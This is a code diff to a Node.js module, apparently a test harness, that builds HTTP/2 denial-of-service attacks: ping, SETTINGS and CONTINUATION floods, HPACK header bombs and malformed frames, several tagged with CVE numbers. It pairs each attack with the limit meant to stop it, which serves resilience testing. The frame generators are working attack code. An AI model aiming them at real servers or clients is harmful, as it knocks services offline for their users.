@@ -3,9 +3,11 @@
 /**
  * The attacks, each by its names. `against` is what is attacked: 'server', 'tls' or 'client'. An
  * attack on a server is run with a port, until `until` (ms of the monotonic clock), and resolves to
- * how its first session ended; one on a client is told of a connection's socket.
+ * how its first session ended; one on a client is told of a connection's socket, which is TLS if
+ * it is `secure`.
  *
- * `detectable`: nobody does that in good faith, so that the session must end.
+ * `detectable`: nobody does that in good faith, so that the session must end; with `code`, if that
+ * is the protocol's for it.
  */
 
 const net = require('node:net');
@@ -112,10 +114,10 @@ async function openAndDrop(port) {
 }
 
 /** Octets that a hostile server sends again and again, whatever the client says. */
-function serving(make, opening = Buffer.alloc(0)) {
+function serving(make) {
   return (socket, until) => {
     socket.on('error', () => {}).resume();
-    socket.write(Buffer.concat([frame('SETTINGS'), opening]));
+    socket.write(frame('SETTINGS'));
     let round = 0;
     const fill = () => {
       let flowing = true;
@@ -148,7 +150,8 @@ const raw = (type, stream, payload, flags = 0) => {
   octets[3] = type;
   return octets;
 };
-const bomb = (stream) => {
+/** A field of 3900 octets, then 12,000 times its index. */
+const bomb = (stream, start, flags) => {
   const value = Buffer.alloc(3900, 'b');
   const insert = Buffer.concat([
     Buffer.from([0x40, 1]),
@@ -156,8 +159,14 @@ const bomb = (stream) => {
     Buffer.from([0x7f, 0xbd, 0x1d]),
     value,
   ]);
-  return headers(stream, Buffer.concat([GET, insert, Buffer.alloc(12_000, 0xbe)]));
+  return headers(stream, Buffer.concat([start, insert, Buffer.alloc(12_000, 0xbe)]), flags);
 };
+/** Field blocks of a response, and of an interim one. */
+const OK = Buffer.from([0x88]);
+const EARLY_HINTS = Buffer.concat([Buffer.from([0x08, 3]), Buffer.from('103')]);
+/** A response that begins, then the same again and again. */
+const responding = (flags, make) =>
+  serving((round) => (round === 0 ? headers(1, OK, flags) : times(200, make)));
 
 const ATTACKS = [
   {
@@ -175,7 +184,7 @@ const ATTACKS = [
     name: 'ping flood (CVE-2019-9512)',
     against: 'server',
     detectable: true,
-    budget: 'unsent acknowledgements: 1000',
+    budget: 'maxUnsentAcks: 1000',
     run: flooding(() => times(500, () => ping), { reads: false }),
   },
   {
@@ -204,7 +213,7 @@ const ATTACKS = [
     name: 'settings flood (CVE-2019-9515)',
     against: 'server',
     detectable: true,
-    budget: 'unsent acknowledgements: 1000',
+    budget: 'maxUnsentAcks: 1000',
     run: flooding(() => times(500, () => frame('SETTINGS')), { reads: false }),
   },
   {
@@ -251,7 +260,7 @@ const ATTACKS = [
     name: 'CONTINUATION flood (CVE-2024-27983)',
     against: 'server',
     detectable: true,
-    budget: 'CONTINUATION frames: 8',
+    budget: 'maxContinuations: 8',
     run: flooding(
       () => times(200, () => frame('CONTINUATION', { stream: 1, payload: literal('a', 'b') })),
       { opening: () => [headers(1, GET, 0)] },
@@ -292,6 +301,7 @@ const ATTACKS = [
     name: 'malformed HEADERS (CVE-2025-59465)',
     against: 'server',
     detectable: true,
+    code: 'COMPRESSION_ERROR',
     budget: 'compression error',
     run: flooding(() => headers(1, Buffer.concat([GET, Buffer.alloc(10_000, 0xff)]))),
   },
@@ -299,6 +309,7 @@ const ATTACKS = [
     name: 'window overflow, then WINDOW_UPDATEs',
     against: 'server',
     detectable: true,
+    code: 'FLOW_CONTROL_ERROR',
     budget: 'flow-control error',
     run: flooding(() => times(500, () => windowUpdate(0, MAX_WINDOW))),
   },
@@ -307,7 +318,7 @@ const ATTACKS = [
     against: 'server',
     detectable: true,
     budget: 'maxHeaderListSize, maxSessionInvalidFrames',
-    run: flooding((round) => times(5, (i) => bomb(id(round, i, 5)))),
+    run: flooding((round) => times(5, (i) => bomb(id(round, i, 5), GET))),
   },
   {
     name: 'a million header pairs',
@@ -351,9 +362,7 @@ const ATTACKS = [
     name: 'flood of 1xx',
     against: 'client',
     budget: 'HPACK table, one event each',
-    run: serving(() =>
-      times(200, () => headers(1, Buffer.from([0x08, 3, 0x31, 0x30, 0x33]), END_HEADERS)),
-    ),
+    run: serving(() => times(200, () => headers(1, EARLY_HINTS, END_HEADERS))),
   },
   {
     name: 'flood of PUSH_PROMISE',
@@ -372,7 +381,9 @@ const ATTACKS = [
   {
     name: 'flood of ORIGIN',
     against: 'client',
-    budget: 'TLS only, maxOriginSetSize',
+    secure: true,
+    detectable: true,
+    budget: 'maxOriginSetSize: 128',
     run: serving((round) =>
       times(100, (i) => {
         const origin = Buffer.from(`https://${round}-${i}.example`);
@@ -399,6 +410,33 @@ const ATTACKS = [
     against: 'client',
     budget: 'backpressure',
     run: serving(() => times(500, () => ping)),
+  },
+  {
+    name: 'flood of SETTINGS',
+    against: 'client',
+    budget: 'backpressure',
+    run: serving(() => times(500, () => frame('SETTINGS'))),
+  },
+  {
+    name: 'flood of CONTINUATION',
+    against: 'client',
+    detectable: true,
+    budget: 'maxContinuations: 8',
+    run: responding(0, () => frame('CONTINUATION', { stream: 1, payload: literal('a', 'b') })),
+  },
+  {
+    name: 'flood of empty DATA frames',
+    against: 'client',
+    detectable: true,
+    budget: 'maxSessionInvalidFrames: 1000',
+    run: responding(END_HEADERS, () => frame('DATA', { stream: 1 })),
+  },
+  {
+    name: 'HPACK bombs in 1xx',
+    against: 'client',
+    detectable: true,
+    budget: 'maxHeaderListSize, maxSessionInvalidFrames',
+    run: serving(() => times(5, () => bomb(1, EARLY_HINTS, END_HEADERS))),
   },
 ];
 
